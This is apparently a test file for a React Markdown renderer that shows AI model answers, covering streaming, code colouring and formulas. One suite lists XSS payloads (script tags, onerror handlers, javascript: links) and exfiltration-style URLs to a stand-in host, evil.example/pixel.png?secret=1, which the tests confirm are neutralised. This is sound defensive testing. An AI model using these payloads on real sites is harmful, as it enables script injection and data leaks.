import fc from 'fast-check';
import { act } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { markdown as labels } from '#ui/language/en/markdown.ts';
import { Markdown } from '#ui/parts/markdown/markdown.tsx';
import { safeAddress } from '#ui/parts/markdown/safe-address.ts';
import { sampleAnswer } from './sample-answer.ts';

Reflect.set(globalThis, 'IS_REACT_ACT_ENVIRONMENT', true);

let container: HTMLElement;
let root: Root;
beforeEach(() => {
  container = document.createElement('div');
  document.body.append(container);
  root = createRoot(container);
});
afterEach(async () => {
  act(() => root.unmount());
  container.remove();
});

async function show(text: string, isLive = false): Promise<HTMLElement> {
  act(() => root.render(<Markdown text={text} isLive={isLive} labels={labels} />));
  return container;
}

describe('markdown', () => {
  test('shows what models write: headings, lists, tables, code, quotes', async () => {
    const element = await show(
      '# Title\n\nSome **bold** and *soft* `code`.\n\n1. one\n2. two\n   - inner\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nlet x = 1;\nx += 1;\n```\n\n> quoted\n',
    );
    expect(element.querySelector('h2')?.textContent).toBe('Title');
    expect(element.querySelector('strong')?.textContent).toBe('bold');
    expect(element.querySelectorAll('ol > li').length).toBe(2);
    expect(element.querySelector('ol ul > li')?.textContent).toBe('inner');
    expect(element.querySelector('td.align-right')?.textContent).toBe('2');
    expect(element.querySelectorAll('pre .line').length).toBe(2);
    expect(element.querySelector('blockquote')?.textContent).toBe('quoted');
  });

  test('bold that ends in Chinese punctuation is bold', async () => {
    expect((await show('**注意：**请先备份。')).querySelector('strong')?.textContent).toBe('注意：');
  });

  test('however a text is cut while it streams, in the end it shows the same as the whole', async () => {
    const text =
      '# A\n\nOne **two** three\n\n- a\n- b\n- c\n- d\n\n```py\nprint(1)\n```\n\n| x | y |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nend $x^2$ *of* it';
    const whole = (await show(text)).innerHTML;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.nat(text.length), { maxLength: 12 }), async (places) => {
        act(() => root.unmount());
        root = createRoot(container);
        for (const place of places.toSorted((left, right) => left - right)) await show(text.slice(0, place), true);
        await show(text, true);
        expect((await show(text)).textContent).toBe(new DOMParser().parseFromString(whole, 'text/html').body.textContent);
      }),
      { numRuns: 25 },
    );
  });

  test('names are searched in text that is new, never again in what stands', async () => {
    const searched: string[] = [];
    const decorate = (plain: string) => {
      searched.push(plain);
      return [];
    };
    const text = `${'Some **bold** words and *soft* ones.\n\n- an item\n- another\n\n'.repeat(40)}A last one, **bold** too, that grows`;
    const show = (length: number): void =>
      act(() => root.render(<Markdown text={text.slice(0, length)} isLive labels={labels} decorate={decorate} />));
    show(text.length - 10);
    searched.length = 0;
    for (let length = text.length - 9; length <= text.length; length += 1) show(length);
    expect(searched).toHaveLength(10);
    expect(new Set(searched.map((plain) => plain.slice(0, 5)))).toEqual(new Set([' too,']));
  });

  test('a word that arrives changes its own text in the page and nothing else', async () => {
    const text = `${'A paragraph with `code`.\n\n```py\nx = 1\n```\n\n| a |\n|---|\n| 1 |\n\n'.repeat(20)}The end`;
    await show(text, true);
    const changes: MutationRecord[] = [];
    const observer = new MutationObserver((records) => changes.push(...records));
    observer.observe(container, { subtree: true, childList: true, characterData: true, attributes: true });
    await show(`${text} comes`, true);
    await Promise.resolve();
    observer.disconnect();
    expect(changes.map(({ type, target }) => [type, target.textContent])).toEqual([['characterData', 'The end comes']]);
  });

  test('while an answer streams and when it ends, what is finished keeps its elements and is not touched again', async () => {
    for (const seed of [1, 2, 3]) {
      act(() => root.unmount());
      root = createRoot(container);
      const text = sampleAnswer(700, seed);
      const touched: string[] = [];
      let finished = new Set<Element>();
      const observer = new MutationObserver((records) => {
        for (const { target, removedNodes } of records) {
          const element = target instanceof Element ? target : target.parentElement;
          const block = [...finished].find((one) => one.contains(element) || [...removedNodes].includes(one));
          // Colours come to finished code and finished tables get their buttons: both once, and the words stay.
          const isAllowed = element?.closest('code, .table-actions') !== null;
          if (block !== undefined && !isAllowed) touched.push(block.outerHTML.slice(0, 80));
        }
      });
      observer.observe(container, {
        subtree: true,
        childList: true,
        characterData: true,
        attributes: true,
        attributeFilter: ['class', 'dir'],
      });
      const words = new Map<Element, string>();
      let length = 0;
      while (length < text.length) {
        length = Math.min(text.length, length + 1 + ((length * 7 + seed * 31) % 90));
        await show(text.slice(0, length), true);
        await Promise.resolve();
        const blocks = [...container.querySelectorAll('.chunk > *')];
        for (const element of finished) expect([element.isConnected, element.textContent]).toEqual([true, words.get(element)]);
        // What stands before the block that is being written is finished; the one right before may still take its last line.
        finished = new Set(blocks.slice(0, -2));
        for (const element of finished) if (!words.has(element)) words.set(element, element.textContent ?? '');
      }
      const before = [...container.querySelectorAll('.chunk > *')];
      await show(text);
      await Promise.resolve();
      observer.disconnect();
      expect(touched).toEqual([]);
      expect([...container.querySelectorAll('.chunk > *')]).toEqual(before);
    }
  });

  test('open code is plain until its fence closes, and is coloured in place then, while the answer goes on', async () => {
    const text = 'Words.\n\n```js\nconst a = 1;\nconst b = 2;\n';
    const element = await show(text, true);
    const block = element.querySelector('figure');
    await new Promise((resolve) => {
      setTimeout(resolve, 300);
    });
    await show(`${text}const c`, true);
    expect(element.querySelectorAll('.code-keyword').length).toBe(0);
    expect(element.querySelector('pre')?.textContent).toBe('const a = 1;\nconst b = 2;\nconst c');
    await show(`${text}const c = 3;\n\`\`\`\n\nMore`, true);
    // How many is the highlighter's affair: it gives up a line for which a busy machine leaves it no time.
    await expect.poll(() => element.querySelectorAll('.code-keyword').length, { timeout: 20_000 }).toBeGreaterThan(0);
    expect(element.querySelector('figure')).toBe(block);
  });

  test('blocks that are finished keep their elements while more comes', async () => {
    const first = (await show('One.\n\nTwo.\n\nThree', true)).querySelector('p');
    const later = (await show('One.\n\nTwo.\n\nThree and more.\n\nFour', true)).querySelector('p');
    expect(later).toBe(first);
  });
});

describe('nothing a model writes can run or leave the page', () => {
  test.each([
    '<script>window.hit = 1</script>',
    '<img src=x onerror="window.hit = 1">',
    '<iframe src="https://evil.example/"></iframe>',
    '[click](javascript:window.hit=1)',
    '![x](https://evil.example/pixel.png?secret=1)',
    '[x](data:text/html,<script>window.hit=1</script>)',
    '<style>body { display: none }</style>',
    '<svg onload="window.hit = 1">',
    '[a]: javascript:window.hit=1\n\n[a]',
    '<https://evil.example/auto>',
    '$\\href{javascript:window.hit=1}{x}$',
    '$$\\includegraphics{https://evil.example/pixel.png}$$',
  ])('%s', async (text) => {
    const before = performance.getEntriesByType('resource').length;
    const element = await show(text);
    await new Promise((resolve) => {
      setTimeout(resolve, 150);
    });
    expect(element.querySelectorAll('script, img, iframe, style, svg, object, embed, link, form').length).toBe(0);
    const hosts = performance
      .getEntriesByType('resource')
      .slice(before)
      .map(({ name }) => new URL(name).host);
    expect(hosts.filter((host) => host !== window.location.host)).toEqual([]);
    expect(Reflect.get(window, 'hit')).toBeUndefined();
    for (const link of element.querySelectorAll('a')) {
      expect(['http:', 'https:', 'mailto:']).toContain(link.protocol);
      expect(link.rel).toContain('noopener');
      expect(link.target).toBe('_blank');
    }
  });

  test('a link shows the true host and asks before the first visit', async () => {
    const element = await show('[bank](https://user:word@xn--bnk-eqa.example/a)');
    const link = element.querySelector('a');
    expect(link?.title).toBe('xn--bnk-eqa.example');
    expect(link?.href).toBe('https://xn--bnk-eqa.example/a');
    act(() => link?.click());
    expect(document.querySelector('dialog[open]')?.textContent).toContain('xn--bnk-eqa.example');
  });

  test('no link of a model leads into the app', () => {
    expect(safeAddress(`${window.location.origin}/#/settings`, window.location.origin)).toBeNull();
    expect(safeAddress('#/settings', window.location.origin)).toBeNull();
  });

  test('characters that turn code around are shown by their number', async () => {
    const element = await show('```js\nif (a\u202e) {}\n```');
    expect(element.querySelector('.hidden-character')?.textContent).toBe('U+202E');
  });

  test('text that is made to be slow costs at most some hundred times as much as plain words', async () => {
    async function costOf(text: string): Promise<number> {
      const began = performance.now();
      const element = await show(text);
      expect(element.querySelector('.chunk > *')).not.toBeNull();
      return performance.now() - began;
    }
    await costOf('warm '.repeat(8000));
    // Against words in the same run, so that a busy machine slows both; a parser that goes wrong on these takes minutes.
    const plain = Math.max(10, await costOf('word '.repeat(8000)));
    const hostile = [
      '> '.repeat(4000),
      '[a]('.repeat(8000),
      '*a _b '.repeat(8000),
      '`'.repeat(20_000),
      '| '.repeat(8000),
      `a${'\u0301'.repeat(5000)}`,
    ];
    for (const text of hostile) expect((await costOf(text)) / plain).toBeLessThan(200);
  });
});

describe('code and formulas', () => {
  test('finished code is coloured, and says the same as before', async () => {
    const element = await show('```js\nconst a = "b"; // c\n```');
    await expect.poll(() => element.querySelector('.code-keyword')?.textContent, { timeout: 20_000 }).toBe('const');
    expect(element.querySelector('pre')?.textContent?.trim()).toBe('const a = "b"; // c');
  });

  test('a formula becomes MathML; a price stays a price', async () => {
    const element = await show('$x^2$ costs $5 or $10');
    await expect.poll(() => element.querySelectorAll('math').length, { timeout: 20_000 }).toBe(1);
    expect(element.textContent).toContain('costs $5 or $10');
  });
});
